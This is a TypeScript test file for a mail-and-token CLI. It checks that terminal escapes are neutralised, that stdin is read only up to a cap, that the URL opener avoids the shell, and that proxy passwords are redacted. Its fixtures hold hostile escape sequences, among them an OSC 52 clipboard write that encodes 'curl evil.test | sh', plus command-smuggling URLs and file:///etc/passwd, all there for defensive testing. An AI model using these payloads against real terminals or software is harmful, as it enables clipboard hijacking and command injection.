/**
 * Issue 15, CLI: terminal escapes in everything printed (item 15); `extract -` stops reading stdin at --max-bytes
 * (16); the browser opener never goes through a shell (16); the IMAP proxy from the environment / env file, its
 * password redacted, and proxy failures named as the proxy's (16).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { escapeTerminal, isTerminalSafe } from '../../src/core/terminal';
import { main } from '../../src/cli/main';
import { parseArgs, terminalSafeIO, type CliIO } from '../../src/cli/io';
import { openerCommand, readCapped } from '../../src/cli/nodeIO';
import { IMAP_BOOLEAN_FLAGS, IMAP_VALUE_FLAGS, imapProxyFrom, mailboxFromFlags } from '../../src/cli/mailboxArgs';
import { connectClient, createImapClient, proxyFailure, type MailboxConfig } from '../../src/mail/imapClient';
import { MailboxError } from '../../src/mail';
import { redact } from '../../src/core/redact';
import { withTimeout } from '../../src/core/async';

const root = path.resolve(__dirname, '..', '..');
// Raw C0 (but TAB/LF), DEL, C1, bidi controls, LS/PS: none may reach the terminal.
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function io(cwd: string, env: Record<string, string | undefined> = {}, stdin: Buffer | string = '') {
  const out: string[] = [];
  const errs: string[] = [];
  const asked: Array<number | undefined> = [];
  const cli: CliIO = {
    stdout: (t) => void out.push(t),
    stderr: (t) => void errs.push(t),
    env,
    cwd,
    readStdin: async (max?: number) => {
      asked.push(max);
      return Buffer.from(stdin);
    },
  };
  return { cli, out, errs, asked, all: () => out.join('') + errs.join('') };
}

const HOSTILE = [
  '\u001b]0;pwned window title\u0007', // OSC 0 (window title), BEL-terminated
  '\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u001b\\', // OSC 52 clipboard write, ST-terminated
  '\u001b[2J\u001b[H', // CSI clear screen, cursor home
  '\u001b]8;;https://evil.test\u0007click\u001b]8;;\u0007', // OSC 8 hyperlink
  '\u009b31m', // C1 CSI
  '\u009d0;title\u009c', // C1 OSC ... ST
  'ok\rspoofed', // CR overprint
  'abc\u202edcba', // RIGHT-TO-LEFT OVERRIDE
  '\u2066isolate\u2069 \u200f', // bidi isolates, RLM
  'del\u007f bell\u0007 nul\u0000 vt\u000b ff\u000c',
];

test('item 15: escapeTerminal turns every control into \\uXXXX, keeps LF, TAB and ordinary Unicode', () => {
  for (const h of HOSTILE) {
    const e = escapeTerminal(h);
    assert.ok(!RAW_CONTROL.test(e), JSON.stringify(e));
    assert.ok(isTerminalSafe(e));
    assert.ok(!isTerminalSafe(h));
  }
  assert.equal(escapeTerminal('\u001b]52;c;QQ==\u0007'), '\\u001b]52;c;QQ==\\u0007');
  assert.equal(escapeTerminal('a\u009bb'), 'a\\u009bb');
  assert.equal(escapeTerminal('line 1\n\tline 2 é 日本 🚀 ½'), 'line 1\n\tline 2 é 日本 🚀 ½');
  // Inside JSON the escapes are JSON's own: the text parses back to the original.
  for (const h of HOSTILE) assert.equal(JSON.parse(escapeTerminal(JSON.stringify({ s: h }))).s, h);
});

test('item 15: terminalSafeIO escapes stdout, stderr and the prompt question', async () => {
  const seen: string[] = [];
  const raw: CliIO = {
    stdout: (t) => void seen.push(t),
    stderr: (t) => void seen.push(t),
    env: {},
    cwd: '/',
    readStdin: async () => Buffer.alloc(0),
    promptSecret: async (q) => (seen.push(q), undefined),
  };
  const safe = terminalSafeIO(raw);
  safe.stdout('a\u001b]0;x\u0007\n');
  safe.stderr('b\u009b2J\n');
  await safe.promptSecret!('IMAP password for \u001b[31mme\u001b[0m: ');
  assert.ok(
    seen.every((s) => !RAW_CONTROL.test(s)),
    JSON.stringify(seen),
  );
});

test('item 15: usernames from .env and mail subjects reach stdout/stderr escaped (login --verbose, extract, errors)', async () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'tr-h15-term-'));
  try {
    // A .env username with OSC 52 and a C1 CSI in it (raw bytes: dotenv keeps them).
    writeFileSync(
      path.join(dir, '.env'),
      `SF_USERNAME=me\u001b]52;c;ZWNobyBoaQ==\u0007\u009b2J@acme.test\nSF_PASSWORD=pw-123456\nSF_LOGIN_URL=http://127.0.0.1:9\n`,
    );
    let x = io(dir);
    await withTimeout(main(['login', '--verbose', '--timeout', '3'], x.cli), 20_000, 'login hangs');
    assert.ok(!RAW_CONTROL.test(x.all()), x.all());
    assert.match(
      x.errs.join(''),
      /as me\\u001b\]52;c;ZWNobyBoaQ==\\u0007\\u009b2J@acme\.test/,
      'the --verbose line shows the username, escaped',
    );
    assert.equal(
      (JSON.parse(x.out.join('')) as { username: string }).username,
      'me\u001b]52;c;ZWNobyBoaQ==\u0007\u009b2J@acme.test',
      'the JSON keeps it exact',
    );
    // An unknown command / option echoed back.
    x = io(dir);
    assert.equal(await main(['\u001b]0;evil\u0007'], x.cli), 2);
    assert.match(x.errs.join(''), /unknown command "\\u001b\]0;evil\\u0007"/);
    x = io(dir);
    assert.equal(await main(['extract', '--\u001b[2Jx', '-'], x.cli), 2);
    assert.ok(!RAW_CONTROL.test(x.all()), x.all());
    // A mail whose subject and sender name carry escapes (RFC 2047 encoded, as an attacker would send them).
    const mail = [
      'From: =?utf-8?q?Sales=1B]52;c;ZXZpbA=3D=3D=07force?= <support@salesforce.com>',
      'To: me@acme.test',
      'Subject: =?utf-8?q?Your_token_=1B]0;owned=07_=C2=9B2J?=',
      'Date: Mon, 1 Jan 2024 00:00:00 +0000',
      'Message-ID: <t1@salesforce.com>',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Hello',
      '',
    ].join('\r\n');
    x = io(dir, {}, mail);
    assert.equal(await main(['extract', '-'], x.cli), 0, x.errs.join(''));
    const stdout = x.out.join('');
    assert.ok(!RAW_CONTROL.test(stdout), stdout);
    const json = JSON.parse(stdout) as { subject?: string };
    assert.ok(json.subject?.includes('\u001b]0;owned\u0007'), 'the JSON still carries the exact subject');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('item 16: readCapped stops reading an endless stream at the cap (and reads all of a short one)', async () => {
  let pulled = 0;
  const endless = new Readable({
    read() {
      pulled++;
      this.push(Buffer.alloc(16 * 1024, 0x41));
    },
  });
  const got = await withTimeout(readCapped(endless, 100_001), 5000, 'readCapped reads forever');
  assert.equal(got.length, 100_001);
  assert.ok(pulled < 40, `pulled ${pulled} chunks`);
  assert.ok(endless.destroyed, 'the stream is released');
  assert.equal((await readCapped(Readable.from([Buffer.from('abc'), Buffer.from('def')]), 100)).toString(), 'abcdef');
  assert.equal((await readCapped(Readable.from([Buffer.from('abcdef')]), 4)).toString(), 'abcd');
  assert.equal((await readCapped(Readable.from([Buffer.from('abcdef')]))).toString(), 'abcdef');
});

test('item 16: `extract -` asks stdin for --max-bytes + 1 bytes and reports a cut mail', async () => {
  const body = 'From: a@b.test\r\nSubject: x\r\n\r\n' + 'y'.repeat(5000);
  let x = io('/', {}, body);
  assert.equal(await main(['extract', '--max-bytes', '1000', '-'], x.cli), 0);
  assert.deepEqual(x.asked, [1001]);
  assert.ok(
    (JSON.parse(x.out.join('')) as { warnings: string[] }).warnings.some((w) => /larger than 1000 bytes/.test(w)),
  );
  x = io('/', {}, body.slice(0, 1000));
  assert.equal(await main(['extract', '--max-bytes', '1000', '-'], x.cli), 0);
  assert.ok(
    !(JSON.parse(x.out.join('')) as { warnings: string[] }).warnings.some((w) => /larger than/.test(w)),
    'exactly 1000 bytes is not cut',
  );
});

test('item 16: the real CLI `extract - --max-bytes N` ends while its stdin is still being written', {
  timeout: 60_000,
}, async () => {
  const child = spawn(
    process.execPath,
    ['--import', 'tsx', path.join(root, 'src', 'cli.ts'), 'extract', '--max-bytes', '20000', '-'],
    { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] },
  );
  let out = '';
  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
  child.stdin.on('error', () => undefined); // EPIPE once the CLI stops reading
  let written = 0;
  const chunk = Buffer.from('From: a@b.test\r\nSubject: endless\r\n\r\n' + 'z'.repeat(64 * 1024));
  const pump = setInterval(() => {
    if (!child.stdin.destroyed) {
      child.stdin.write(chunk);
      written += chunk.length;
    }
  }, 5);
  try {
    const code = await withTimeout(
      new Promise<number | null>((r) => child.on('close', r)),
      45_000,
      'extract kept reading stdin',
    );
    assert.equal(code, 0);
    assert.ok(
      (JSON.parse(out) as { warnings: string[] }).warnings.some((w) => /larger than 20000 bytes/.test(w)),
      out,
    );
  } finally {
    clearInterval(pump);
    child.kill();
  }
  assert.ok(written > 20_000);
});

test('item 16: the browser opener: no shell anywhere; on Windows rundll32 url.dll,FileProtocolHandler with the URL as one argument', () => {
  const hostile = 'https://acme.my.salesforce.com/_ui/system/security/ResetApiTokenEdit?a=1&calc.exe&b=^c|d"e%20f';
  const win = openerCommand(hostile, 'win32')!;
  assert.equal(win.cmd, 'rundll32');
  assert.equal(win.args.length, 2);
  assert.equal(win.args[0], 'url.dll,FileProtocolHandler');
  assert.equal(win.args[1], new URL(hostile).href);
  assert.ok(!/["\s]/.test(win.args[1]), 'no quote or space left to split on');
  assert.ok(!win.args.some((a) => /^\/c$|^start$/i.test(a)));
  assert.deepEqual(openerCommand('https://login.salesforce.com/x', 'darwin'), {
    cmd: 'open',
    args: ['https://login.salesforce.com/x'],
  });
  assert.deepEqual(openerCommand('http://127.0.0.1:8080/reset', 'linux'), {
    cmd: 'xdg-open',
    args: ['http://127.0.0.1:8080/reset'],
  });
  for (const bad of [
    'file:///etc/passwd',
    'javascript:alert(1)',
    '-x',
    '--help',
    'calc.exe & https://x',
    'ms-settings:',
    'https://user:pw@x.test/',
    '',
  ]) {
    for (const p of ['win32', 'darwin', 'linux'] as const)
      assert.equal(openerCommand(bad, p), undefined, `${p} ${bad}`);
  }
  const src = readFileSync(path.join(root, 'src', 'cli', 'nodeIO.ts'), 'utf8');
  assert.ok(!/['"]cmd(\.exe)?['"]/.test(src), 'nodeIO.ts names no cmd');
  assert.match(src, /shell: false/);
});

function proxyArgs(argv: string[]) {
  return parseArgs(['--imap-host', 'imap.example.test', '--imap-user', 'me@example.test', ...argv], {
    values: IMAP_VALUE_FLAGS,
    booleans: IMAP_BOOLEAN_FLAGS,
  });
}

test('item 16: the IMAP proxy comes from TOKEN_RELAY_IMAP_PROXY too; its password is redacted; one in an argument is warned about', async () => {
  const secret = 'Pr0xy-S3cret-' + Date.now();
  let x = io('/');
  let cfg = await mailboxFromFlags(
    proxyArgs([]),
    {
      TOKEN_RELAY_IMAP_PASSWORD: 'imap-pw-1',
      TOKEN_RELAY_IMAP_PROXY: `http://alice:${secret}@proxy.example.test:3128`,
    },
    x.cli,
  );
  assert.equal(cfg.proxy, `http://alice:${secret}@proxy.example.test:3128`);
  assert.equal(x.errs.length, 0);
  assert.ok(!redact(`using ${cfg.proxy}`).includes(secret), 'proxy password redacted');
  // Percent-encoded passwords are redacted in both forms.
  const enc = 'p%40ss-' + Date.now();
  imapProxyFrom(proxyArgs([]), { TOKEN_RELAY_IMAP_PROXY: `socks5://bob:${enc}@127.0.0.1:1080` }, x.cli);
  assert.ok(!redact(decodeURIComponent(enc)).includes(decodeURIComponent(enc)));
  // The flag wins over the environment, and a password in it draws a warning (visible in ps).
  x = io('/');
  cfg = await mailboxFromFlags(
    proxyArgs(['--imap-proxy', `http://carol:${secret}x@p.test:8080`]),
    { TOKEN_RELAY_IMAP_PASSWORD: 'pw', TOKEN_RELAY_IMAP_PROXY: 'http://other.test:1' },
    x.cli,
  );
  assert.equal(cfg.proxy, `http://carol:${secret}x@p.test:8080`);
  assert.match(x.errs.join(''), /--imap-proxy URL holds a password, which other processes can see/);
  x = io('/');
  assert.equal(
    (
      await mailboxFromFlags(
        proxyArgs(['--imap-proxy', 'http://p.test:8080']),
        { TOKEN_RELAY_IMAP_PASSWORD: 'pw' },
        x.cli,
      )
    ).proxy,
    'http://p.test:8080',
  );
  assert.equal(x.errs.length, 0);
  cfg = await mailboxFromFlags(proxyArgs([]), { TOKEN_RELAY_IMAP_PASSWORD: 'pw' }, x.cli);
  assert.equal(cfg.proxy, undefined);
  for (const bad of ['proxy.test:3128', 'ftp://p.test', 'http://', 'socks5://']) {
    await assert.rejects(
      mailboxFromFlags(proxyArgs([]), { TOKEN_RELAY_IMAP_PASSWORD: 'pw', TOKEN_RELAY_IMAP_PROXY: bad }, x.cli),
      /TOKEN_RELAY_IMAP_PROXY needs a URL/,
    );
  }
  // From the env file through the CLI: the warning is absent and the proxy is used (a refused proxy, named as such).
  const dir = mkdtempSync(path.join(os.tmpdir(), 'tr-h15-proxy-'));
  const closed = net.createServer();
  await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
  const port = (closed.address() as net.AddressInfo).port;
  await new Promise<void>((r) => closed.close(() => r()));
  try {
    writeFileSync(
      path.join(dir, '.env'),
      `TOKEN_RELAY_IMAP_PASSWORD=pw\nTOKEN_RELAY_IMAP_PROXY=http://dave:${secret}@127.0.0.1:${port}\n`,
    );
    x = io(dir);
    const code = await withTimeout(
      main(
        ['watch', '--dotenv', '.env', '--imap-host', 'imap.example.test', '--imap-user', 'me', '--timeout', '10'],
        x.cli,
      ),
      30_000,
      'watch hangs',
    );
    assert.equal(code, 3, x.errs.join(''));
    assert.match(
      x.errs.join(''),
      new RegExp(
        `The IMAP proxy http://127\\.0\\.0\\.1:${port} failed before reaching imap\\.example\\.test:993: the connection to the proxy was refused`,
      ),
    );
    assert.ok(!x.all().includes(secret));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/** A fake HTTP proxy answering every CONNECT with `status`, or closing at once. */
async function fakeProxy(behaviour: string): Promise<{ port: number; close: () => Promise<void> }> {
  const server = net.createServer((s) => {
    s.on('error', () => undefined);
    s.once('data', () => {
      if (behaviour === 'close') s.destroy();
      else s.end(`HTTP/1.1 ${behaviour}\r\nContent-Length: 0\r\n\r\n`);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as net.AddressInfo).port, close: () => new Promise((r) => server.close(() => r())) };
}

test("item 16: proxy failures are named as the proxy's, not the IMAP host's (407, 403, closed, refused, bad URL)", async () => {
  const cases: Array<[string, RegExp]> = [
    ['407 Proxy Authentication Required', /the proxy wants credentials \(407 Proxy Authentication Required\)/],
    ['403 Forbidden', /the proxy refused the tunnel to imap\.example\.test:993 \(HTTP 403\)/],
    ['close', /Proxy closed the connection before the tunnel was established/],
  ];
  for (const [behaviour, why] of cases) {
    const p = await fakeProxy(behaviour);
    try {
      const cfg: MailboxConfig = {
        host: 'imap.example.test',
        port: 993,
        user: 'me',
        password: 'pw',
        proxy: `http://u:hunter2-proxy@127.0.0.1:${p.port}`,
        timeoutMs: 5000,
      };
      const client = createImapClient(cfg);
      await assert.rejects(connectClient(client, cfg), (e: unknown) => {
        assert.ok(e instanceof MailboxError, String(e));
        assert.equal(e.kind, 'connect');
        assert.match(
          e.message,
          new RegExp(
            `^The IMAP proxy http://127\\.0\\.0\\.1:${p.port} failed before reaching imap\\.example\\.test:993: `,
          ),
        );
        assert.match(e.message, why);
        assert.ok(!e.message.includes('hunter2-proxy'));
        return true;
      });
    } finally {
      await p.close();
    }
  }
  // Not a proxy failure: left to the usual mapping.
  assert.equal(
    proxyFailure(Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED' }), {
      host: 'h',
      user: 'u',
      password: 'p',
      proxy: 'http://p:1',
    }),
    undefined,
  );
  assert.equal(
    proxyFailure(Object.assign(new Error('Failed to setup proxy connection'), { code: 'ECONNREFUSED' }), {
      host: 'h',
      user: 'u',
      password: 'p',
    }),
    undefined,
  );
  const named = proxyFailure(
    Object.assign(new Error('Failed to setup proxy connection'), {
      code: 'ENOTFOUND',
      _err: { code: 'ENOTFOUND', message: 'getaddrinfo ENOTFOUND proxy.invalid' },
    }),
    { host: 'h', port: 143, user: 'u', password: 'p', proxy: 'socks5://x:y@proxy.invalid:1080' },
  );
  assert.match(
    named!.message,
    /^The IMAP proxy socks5:\/\/proxy\.invalid:1080 failed before reaching h:143: the proxy host name cannot be resolved/,
  );
});
